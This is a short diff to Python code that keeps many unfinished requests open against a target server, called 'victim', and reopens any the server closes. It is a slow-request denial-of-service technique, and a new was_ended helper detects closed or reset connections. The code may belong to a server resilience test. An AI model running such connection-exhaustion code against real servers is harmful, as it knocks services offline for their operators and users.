@@ -32,7 +32,7 @@ def hold(victim: Victim, request: bytes, *, times: int, done: threading.Event) -
     """Keep so many unfinished requests open, and open them anew when they have been ended."""
     held: list[socket.socket] = []
     while not done.is_set():
-        held = [one for one in held if is_open(one)]
+        held = [one for one in held if not was_ended(one)]
         for _ in range(times - len(held)):
             with suppress(OSError):
                 held.append(victim.connect(request))
@@ -41,14 +41,17 @@ def hold(victim: Victim, request: bytes, *, times: int, done: threading.Event) -
         one.close()
 
 
-def is_open(connection: socket.socket) -> bool:
+def was_ended(connection: socket.socket) -> bool:
+    """Whether the server has said anything to a client that still owes it the last bytes."""
     connection.setblocking(False)
     try:
-        return bool(connection.recv(1, socket.MSG_PEEK)) and False
+        connection.recv(1)
     except BlockingIOError:
-        return True
-    except OSError:
         return False
+    except OSError:
+        pass  # it was reset
+    connection.close()
+    return True
 
 
 def ask_on(victim: Victim, *, seconds: float) -> tuple[list[Answer], list[Answer]]:
